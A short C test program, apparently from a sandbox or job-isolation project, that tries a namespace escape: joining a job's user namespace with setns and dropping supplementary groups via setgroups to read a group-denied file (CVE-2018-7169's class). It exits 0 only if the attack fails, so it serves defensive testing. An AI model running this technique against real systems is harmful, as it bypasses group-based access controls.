/* Attack (issue 10, item 3): a process of the job's user, outside the job,
 * joins the job's user namespace (it may: the namespace is the user's, and
 * setns gives it every capability there) and drops its supplementary groups
 * to read a file that denies access by group (CVE-2018-7169's class).
 *
 *   drop-groups PID [FILE]   PID: a task of the job
 *
 * Prints what setgroups(0, NULL) did and whether FILE is readable after it;
 * exits 0 only if the attack failed. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <grp.h>
#include <sched.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

int main(int argc, char **argv)
{
	char path[64];
	int fd, rc, e;

	if (argc < 2) {
		fprintf(stderr, "usage: drop-groups PID [FILE]\n");
		return 2;
	}
	snprintf(path, sizeof(path), "/proc/%s/ns/user", argv[1]);
	fd = open(path, O_RDONLY);
	if (fd < 0 || setns(fd, CLONE_NEWUSER) < 0) {
		printf("setns %s: %s\n", path, strerror(errno));
		return 2;
	}
	rc = setgroups(0, NULL);
	e = errno;
	printf("setgroups: %s\n", rc == 0 ? "dropped" : strerror(e));
	if (argc > 2) {
		fd = open(argv[2], O_RDONLY);
		printf("%s: %s\n", argv[2], fd >= 0 ? "readable" : strerror(errno));
		if (fd >= 0)
			return 1;
	}
	return rc == 0 ? 1 : 0;
}
